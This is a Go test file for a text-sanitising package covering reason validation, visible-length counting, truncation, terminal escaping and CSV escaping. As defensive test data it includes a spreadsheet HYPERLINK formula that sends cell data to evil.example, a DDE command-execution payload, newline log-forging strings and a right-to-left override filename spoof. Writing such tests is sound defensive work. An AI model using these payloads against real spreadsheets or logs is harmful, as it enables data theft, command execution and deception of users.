package safetext

import (
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

func jsonString(t *testing.T, lit string) string {
	t.Helper()
	var s string
	if err := json.Unmarshal([]byte(lit), &s); err != nil {
		t.Fatal(err)
	}
	return s
}

func TestCheckReason(t *testing.T) {
	const min = 10
	nfd := "re\u0301clamation 1234 facture"
	for _, tc := range []struct {
		name, reason string
		err          string // "" for accepted
	}{
		{"plain", "ticket 4521: customer cannot see invoices", ""},
		{"NFC", "réclamation 1234 facture", ""},
		{"NFD", nfd, ""},
		{"tab", "ticket\t4521 invoices", ""},
		{"non-Latin", "заявка 4521 счёт", ""},
		{"CJK", "工单四五二一号发票问题", ""},
		{"emoji from a surrogate pair", jsonString(t, `"ticket 4521 \ud83d\ude00"`), ""},
		{"exactly min", "abcdefghij", ""},

		{"12 zero-width spaces", strings.Repeat("\u200b", 12), "0 visible characters; at least 10"},
		{"zero-width padding", "ab" + strings.Repeat("\u200b", 12), "2 visible characters"},
		{"12 combining accents", strings.Repeat("\u0301", 12), "0 visible characters"},
		{"combining padding", "abc" + strings.Repeat("\u0301", 12), "3 visible characters"},
		{"spaces", strings.Repeat(" ", 20), "0 visible characters"},
		{"no-break spaces", strings.Repeat("\u00a0", 20), "0 visible characters"},
		{"one under", "abcdefghi", "9 visible characters"},
		{"12 lone surrogates via JSON", jsonString(t, `"`+strings.Repeat(`\ud800`, 12)+`"`), "U+FFFD"},
		{"lone surrogate among text", jsonString(t, `"ticket 4521 invoices \udc00"`), "U+FFFD"},
		{"invalid UTF-8", "ticket 4521 \xff invoices", "not valid UTF-8"},
		{"CESU surrogate bytes", "ticket 4521 invoices \xed\xa0\x80", "not valid UTF-8"},
		{"clear screen", "\x1b[2J\x1b[Hticket 4521 invoices", "control character U+001B"},
		{"newline forging a row", "ticket 4521 invoices\nmallory  users:1  ok", "control character U+000A"},
		{"carriage return", "ticket 4521 invoices\rforged", "control character U+000D"},
		{"NUL", "ticket 4521\x00 invoices", "control character U+0000"},
		{"DEL", "ticket 4521\x7f invoices", "control character U+007F"},
		{"C1 CSI", "ticket 4521 \u009b2J invoices", "control character U+009B"},
		{"RLO", "ticket 4521 \u202eseciovni", "bidirectional control U+202E"},
		{"LRE", "ticket 4521 \u202ainvoices", "bidirectional control U+202A"},
		{"RLI", "ticket 4521 \u2067invoices\u2069", "bidirectional control U+2067"},
		{"PDI", "ticket 4521 invoices\u2069", "bidirectional control U+2069"},
		{"line separator", "ticket 4521\u2028invoices", "line separator U+2028"},
		{"9 Hangul fillers U+3164", strings.Repeat("\u3164", 12), "character U+3164"},
		{"Hangul choseong filler U+115F", strings.Repeat("\u115f", 12), "character U+115F"},
		{"Hangul jungseong filler U+1160", "ticket 4521 \u1160", "character U+1160"},
		{"halfwidth Hangul filler U+FFA0", strings.Repeat("\uffa0", 12), "character U+FFA0"},
		{"braille blank U+2800", strings.Repeat("\u2800", 12), "character U+2800"},
		{"tag characters hiding ASCII", "ticket 4521 \U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065", "character U+E0069"},
		{"language tag", "\U000E0001ticket 4521 invoices", "character U+E0001"},
		{"cancel tag", "ticket 4521 invoices\U000E007F", "character U+E007F"},
		{"interlinear annotation", "ticket 4521 \ufff9invoices\ufffahidden\ufffb", "character U+FFF9"},
		{"Khmer invisible vowel", "ticket 4521 \u17b4invoices", "character U+17B4"},
		{"control: Hebrew with niqqud", "בַּקָּשָׁה מִסְפָּר 4521 חֶשְׁבּוֹנִית", ""},
		{"control: Arabic with harakat and a right-to-left mark", "طَلَبٌ رَقْمُ 4521 \u200fفَاتُورَة", ""},
		{"control: LRM, ALM and a combining grapheme joiner", "ticket 4521 \u200einvoices \u061cفاتورة \u05b8\u034f\u05b7", ""},
		{"control: Persian with a zero-width non-joiner", "درخواست\u200cها 4521 فاکتور", ""},
		{"control: emoji with a joiner and a variation selector", "ticket 4521 invoices \U0001F469\u200d\U0001F4BB \u2764\ufe0f", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			err := CheckReason(tc.reason, min)
			switch {
			case tc.err == "" && err != nil:
				t.Errorf("CheckReason(%q) = %v, want accepted", tc.reason, err)
			case tc.err != "" && (err == nil || !strings.Contains(err.Error(), tc.err)):
				t.Errorf("CheckReason(%q) = %v, want an error about %q", tc.reason, err, tc.err)
			case err != nil && strings.ContainsFunc(err.Error(), func(r rune) bool { return r < 0x20 || r > 0x7e }):
				t.Errorf("CheckReason(%q) error %q is not printable ASCII", tc.reason, err)
			}
		})
	}
}

func TestVisibleLen(t *testing.T) {
	for s, want := range map[string]int{
		"":                           0,
		"abc":                        3,
		"a b\tc":                     3,
		"réclamation":                11,
		"re\u0301clamation":          11,
		"1,234.50 €":                 9,
		strings.Repeat("\u200b", 12): 0,
		"\ufeffa\u00adb":             2, // BOM and soft hyphen are Cf
		"\xff\xfe":                   0,
		"日本語":                        3,
		"שָׁלוֹם":                    4, // niqqud are marks (Mn)
		"سَلَام":                     4, // harakat too
		strings.Repeat("\u3164", 9):  0, // a Hangul filler is a letter drawn blank
		strings.Repeat("\u2800", 9):  0,
	} {
		if got := VisibleLen(s); got != want {
			t.Errorf("VisibleLen(%q) = %d, want %d", s, got, want)
		}
	}
}

func TestTruncate(t *testing.T) {
	for _, tc := range []struct {
		s    string
		max  int
		want string
	}{
		{"hello", 10, "hello"},
		{"hello", 5, "hello"},
		{"hello", 4, "hell"},
		{"hello", 0, ""},
		{"hello", -1, ""},
		{"héllo", 2, "h"},           // é is 2 bytes: not split
		{"héllo", 3, "hé"},          // fits exactly
		{"a€", 3, "a"},              // € is 3 bytes
		{"a€", 4, "a€"},             //
		{"a😀", 4, "a"},              // 4-byte rune
		{"😀😀", 7, "😀"},              //
		{"ab\xffcd", 3, "ab\xff"},   // invalid byte kept, one byte
		{"ab\xe2\x82", 3, "ab\xe2"}, // an already broken sequence is cut as bytes
	} {
		got := Truncate(tc.s, tc.max)
		if got != tc.want {
			t.Errorf("Truncate(%q, %d) = %q, want %q", tc.s, tc.max, got, tc.want)
		}
		if len(got) > max(tc.max, 0) {
			t.Errorf("Truncate(%q, %d) is %d bytes", tc.s, tc.max, len(got))
		}
	}
	ua := strings.Repeat("é", 400) // 800 bytes
	if got := Truncate(ua, 512); len(got) != 512 || !utf8.ValidString(got) {
		t.Errorf("Truncate of a 2-byte-rune user agent to 512: %d bytes, valid %v", len(got), utf8.ValidString(got))
	}
	reason := strings.Repeat("x", 999) + "€"
	if got := Truncate(reason, 1000); got != strings.Repeat("x", 999) {
		t.Errorf("Truncate(reason, 1000) split the euro sign: %q", got[995:])
	}
}

func FuzzTruncate(f *testing.F) {
	f.Add("héllo wörld 😀", 5)
	f.Fuzz(func(t *testing.T, s string, n int) {
		got := Truncate(s, n)
		if len(got) > max(n, 0) || !strings.HasPrefix(s, got) {
			t.Fatalf("Truncate(%q, %d) = %q", s, n, got)
		}
		if utf8.ValidString(s) && !utf8.ValidString(got) {
			t.Fatalf("Truncate(%q, %d) = %q split a sequence", s, n, got)
		}
		if n > 0 && len(s) > n && len(got) < n-utf8.UTFMax+1 {
			t.Fatalf("Truncate(%q, %d) = %q cut too much", s, n, got)
		}
	})
}

func TestTerminal(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"plain text", "plain text"},
		{"réclamation 日本語 \"quoted\"", "réclamation 日本語 \"quoted\""},
		{"\x1b[2J\x1b[H", `\x1b[2J\x1b[H`},
		{"ok\nmallory  users:1  allowed", `ok\nmallory  users:1  allowed`},
		{"a\rb\tc", `a\rb\tc`},
		{"invoice \u202egnp.exe", `invoice \u202egnp.exe`},
		{"a\u2066b\u2069", `a\u2066b\u2069`},
		{"zero\u200bwidth", `zero\u200bwidth`},
		{"nbsp\u00a0x", `nbsp\u00a0x`},
		{"C1 \u009b2J", `C1 \u009b2J`},
		{"bad \xff byte", `bad \xff byte`},
		{`C:\path\x1b`, `C:\\path\\x1b`}, // a literal backslash cannot pass for an escape
		{"", ""},
	} {
		if got := Terminal(tc.in); got != tc.want {
			t.Errorf("Terminal(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func FuzzTerminal(f *testing.F) {
	f.Add("\x1b[2J\u202e\n\xff")
	f.Fuzz(func(t *testing.T, s string) {
		out := Terminal(s)
		for _, r := range out {
			if r < 0x20 || r == 0x7f || (0x80 <= r && r <= 0x9f) || isBidi(r) || r == utf8.RuneError && !strings.ContainsRune(s, utf8.RuneError) {
				t.Fatalf("Terminal(%q) = %q keeps %U", s, out, r)
			}
		}
	})
}

func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("https://evil.example/?"&A1,"click")`: `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                            "'+1+cmd|' /C calc'!A0",
		"-2+3":                                            "'-2+3",
		"@SUM(A1:A2)":                                     "'@SUM(A1:A2)",
		"\t=1":                                            "'\t=1",
		"\r=1":                                            "'\r=1",
		"ticket 4521":                                     "ticket 4521",
		"users:42":                                        "users:42",
		"a=b":                                             "a=b",
		"":                                                "",
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}
